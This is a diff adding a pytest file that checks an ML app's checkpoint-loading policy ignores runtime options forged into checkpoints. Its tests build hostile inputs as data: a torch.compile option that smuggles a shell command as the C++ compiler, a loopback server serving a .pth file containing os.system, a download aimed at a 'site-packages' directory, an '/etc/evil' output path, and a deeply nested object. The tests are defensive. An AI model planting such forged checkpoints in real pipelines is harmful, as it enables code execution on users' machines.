@@ -1,0 +1,219 @@
+"""A checkpoint decides the architecture, never what runs or where (app/checkpoint_io/policy.py).
+
+A checkpoint edited to carry runtime options — a ``torch.compile`` backend whose options name a
+compiler command, a download switch with a URL and a directory, a Hugging Face hub name, a
+ResNet's pretrained-weights download — is read by every command without any of them taking
+effect: a marker file the payload would create never appears, the loopback server the
+checkpoint names receives no request, nothing is written where the checkpoint points, and one
+warning line names what was ignored. Runs in-process through the app's entry point."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from pathlib import Path
+
+import pytest
+import torch
+import yaml
+
+from app.checkpoint_io import read_checkpoint
+from app.main import main
+from tests.test_disk import TINY
+
+LM = [*TINY, "--trainer.limit_test_batches", "2", "--trainer.limit_predict_batches", "2", "--trainer.max_epochs", "1"]
+
+
+def run_dirs(directory: Path) -> list[str]:
+    return ["--trainer.default_root_dir", str(directory), "--trainer.logger.init_args.save_dir", str(directory / "runs")]
+
+
+@pytest.fixture(scope="module")
+def lm_checkpoint(tmp_path_factory) -> Path:
+    directory = tmp_path_factory.mktemp("policy")
+    cli = main(["fit", *LM, *run_dirs(directory)])
+    return Path(cli.trainer.checkpoint_callback.last_model_path)
+
+
+def forged(source: Path, target: Path, edit) -> Path:
+    """``source`` with ``edit(checkpoint)`` applied, written with ``torch.save`` (a plain
+    weights-only file: the edit is data, as an attacker's would be)."""
+    checkpoint = torch.load(source, weights_only=True)
+    edit(checkpoint)
+    torch.save(checkpoint, target)
+    return target
+
+
+class Recorder(http.server.BaseHTTPRequestHandler):
+    """Serves a ``.pth`` payload and records every request it receives."""
+
+    requests: list[str] = []
+
+    def do_GET(self):  # noqa: N802 - the http.server hook name
+        Recorder.requests.append(self.path)
+        body = b"import os; os.system('touch /tmp/never')\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format, *args):  # noqa: A002
+        pass
+
+
+@pytest.fixture()
+def server():
+    Recorder.requests = []
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
+    httpd.shutdown()
+    httpd.server_close()
+    thread.join()
+
+
+def run(argv: list[str]) -> str | None:
+    """``main(argv)``; the one-line error a user would see, or ``None`` when it succeeded."""
+    try:
+        main(argv)
+    except ValueError as error:
+        assert "\n" not in str(error), str(error)
+        return str(error)
+    return None
+
+
+COMPILE_COMMANDS = {
+    "test": lambda ckpt, tmp: ["test", *LM, *run_dirs(tmp), "--ckpt_path", str(ckpt)],
+    "validate": lambda ckpt, tmp: ["validate", *LM, *run_dirs(tmp), "--ckpt_path", str(ckpt)],
+    "predict": lambda ckpt, tmp: ["predict", *LM, *run_dirs(tmp), "--ckpt_path", str(ckpt),
+                                  "--model.init_args.predict_output", str(tmp / "predictions.pt")],
+    "fit --ckpt_path": lambda ckpt, tmp: ["fit", *LM, *run_dirs(tmp), "--trainer.max_epochs", "2", "--ckpt_path", str(ckpt)],
+}
+
+
+@pytest.mark.parametrize("command", sorted(COMPILE_COMMANDS))
+def test_compile_options_in_a_checkpoint_never_run(command, lm_checkpoint, tmp_path, capfd):
+    """The compile payload of a weights-only checkpoint (inductor with a C++ compiler that is a
+    shell command) is dropped: the command runs uncompiled, the marker never appears, and a saved
+    ``config.yaml`` holds no compile option to run later."""
+    marker = tmp_path / "MARKER"
+    payload = {"backend": "inductor", "options": {"cpp.cxx": [f"sh -c 'touch {marker}; exec g++ \"$@\"' sh"]}}
+    ckpt = forged(lm_checkpoint, tmp_path / "forged.ckpt", lambda c: c["hyper_parameters"].update(compile=payload))
+    assert run(COMPILE_COMMANDS[command](ckpt, tmp_path)) is None
+    assert not marker.exists()
+    err = capfd.readouterr().err
+    assert "warning: checkpoint" in err and "model.init_args.compile" in err and "ignored" in err
+    for config in tmp_path.rglob("config.yaml"):
+        saved = yaml.safe_load(config.read_text())
+        assert saved["model"]["init_args"].get("compile") in (False, None), config
+
+
+def test_the_reader_drops_runtime_options_of_nested_classes(lm_checkpoint, tmp_path, capfd):
+    """An encoder's runtime options (a ResNet's weights download, a hub name) are dropped like a
+    task's own: every reader gets the checkpoint without them."""
+    def edit(checkpoint):
+        checkpoint["hyper_parameters"]["predict_output"] = "/etc/evil"
+    ckpt = forged(lm_checkpoint, tmp_path / "forged.ckpt", edit)
+    checkpoint = read_checkpoint(ckpt)
+    assert "predict_output" not in checkpoint["hyper_parameters"]
+    assert "model.init_args.predict_output" in capfd.readouterr().err
+
+
+def test_a_hugging_face_encoder_named_by_a_checkpoint_does_not_choose_the_hub(tmp_path):
+    from app.checkpoint_io.policy import drop_runtime_options
+
+    checkpoint = {
+        "state_dict": {},
+        "hyper_parameters": {
+            "_class_path": "tasks.LanguageModel",
+            "encoder": {"class_path": "tasks.encoders.HuggingFaceEncoder",
+                        "init_args": {"model": "org/name", "revision": "main", "pretrained": True}},
+        },
+    }
+    cleaned = drop_runtime_options(checkpoint, "forged.ckpt")
+    assert cleaned["hyper_parameters"]["encoder"]["init_args"] == {"pretrained": True}
+    from tasks.encoders import HuggingFaceEncoder
+
+    with pytest.raises(ValueError, match="HuggingFaceEncoder needs model: .*set model.init_args.encoder.init_args.model"):
+        HuggingFaceEncoder(10)
+
+
+def text_corpus_checkpoint(source: Path, target: Path, base_url: str, evil_dir: Path) -> Path:
+    """A language-model checkpoint whose datamodule is a TextCorpus that asks to download a
+    ``.pth`` file from ``base_url`` into ``evil_dir``."""
+    def edit(checkpoint):
+        checkpoint["datamodule_class_path"] = "datamodules.TextCorpus"
+        checkpoint["datamodule_hyper_parameters"] = {
+            "name": "ptb", "download": True, "base_url": base_url, "data_dir": str(evil_dir),
+            "train_file": "evil.pth", "batch_size": 2, "eval_batch_size": 2, "bptt": 5,
+        }
+    return forged(source, target, edit)
+
+
+DATA_TOOLS = {
+    "analyze rank": lambda ckpt, tmp: ["analyze", "rank", "--ckpt", str(ckpt), "--output-dir", str(tmp / "out")],
+    "analyze experts": lambda ckpt, tmp: ["analyze", "experts", "--ckpt_path", str(ckpt), "--output_dir", str(tmp / "out")],
+    "convert ds": lambda ckpt, tmp: ["convert", "ds", "--ckpt_path", str(ckpt), "--output", str(tmp / "out" / "ds.ckpt")],
+}
+
+
+@pytest.mark.parametrize("tool", sorted(DATA_TOOLS))
+def test_download_settings_in_a_checkpoint_fetch_nothing(tool, lm_checkpoint, tmp_path, server, monkeypatch, capfd):
+    """The tools that rebuild a checkpoint's datamodule take no location from it: the server the
+    checkpoint names is never asked, nothing is written into the directory it names; the data
+    location is the user's (``--config``), here absent, so the tool stops at the missing files."""
+    monkeypatch.chdir(tmp_path)
+    evil = tmp_path / "site-packages"
+    ckpt = text_corpus_checkpoint(lm_checkpoint, tmp_path / "forged.ckpt", server, evil)
+    (tmp_path / "out").mkdir()
+    error = run(DATA_TOOLS[tool](ckpt, tmp_path))
+    assert Recorder.requests == []
+    assert not evil.exists()
+    assert error is not None and "data/ptb" in error  # the class default, not the checkpoint's directory
+    err = capfd.readouterr().err
+    for key in ("data.init_args.download", "data.init_args.base_url", "data.init_args.data_dir", "data.init_args.train_file"):
+        assert key in err
+
+
+def test_a_tool_takes_the_data_location_from_the_users_config(lm_checkpoint, tmp_path, server):
+    """``--config`` supplies the runtime data options for the checkpoint's data class; a config of
+    another data class is one line naming both."""
+    from app.checkpoint_io import restore
+
+    ckpt = text_corpus_checkpoint(lm_checkpoint, tmp_path / "forged.ckpt", server, tmp_path / "evil")
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    for name in ("ptb.train.txt", "ptb.valid.txt", "ptb.test.txt"):
+        (corpus / name).write_text("a b c\nb c a\n")
+    config = tmp_path / "data.yaml"
+    config.write_text(yaml.safe_dump({"data": {"class_path": "datamodules.TextCorpus", "init_args": {"data_dir": str(corpus)}}}))
+    from app.checkpoint_io.policy import runtime_data_options
+    from datamodules import TextCorpus
+
+    assert runtime_data_options([str(config)], TextCorpus, str(ckpt)) == {"data_dir": str(corpus)}
+    other = tmp_path / "other.yaml"
+    other.write_text(yaml.safe_dump({"data": {"class_path": "datamodules.SyntheticLM"}}))
+    with pytest.raises(ValueError, match="configures data datamodules.SyntheticLM, but checkpoint .* was trained on TextCorpus"):
+        restore(str(ckpt), data_config=[str(other)])
+    assert Recorder.requests == []
+
+
+def test_download_refuses_renamed_canonical_files():
+    """A download fetches only files whose checksums are pinned: a renamed canonical file is
+    refused at construction instead of fetched unverified."""
+    from datamodules import TextCorpus
+
+    with pytest.raises(ValueError, match="download fetches only the canonical ptb files.*data.init_args.train_file"):
+        TextCorpus(name="ptb", download=True, train_file="evil.pth")
+
+
+def test_a_checkpoint_nested_exponentially_is_refused_at_once(lm_checkpoint, tmp_path):
+    """A 40-level list of one reused object (``L = [L, L]``) is walked once per object and
+    refused for its depth, instead of hanging every reader."""
+    nested: list = []
+    for _ in range(40):
+        nested = [nested, nested]
+    ckpt = forged(lm_checkpoint, tmp_path / "deep.ckpt", lambda c: c["hyper_parameters"].update(encoder={"init_args": {"x": nested}}))
+    with pytest.raises(ValueError, match="nested deeper than 32 levels"):
+        read_checkpoint(ckpt)
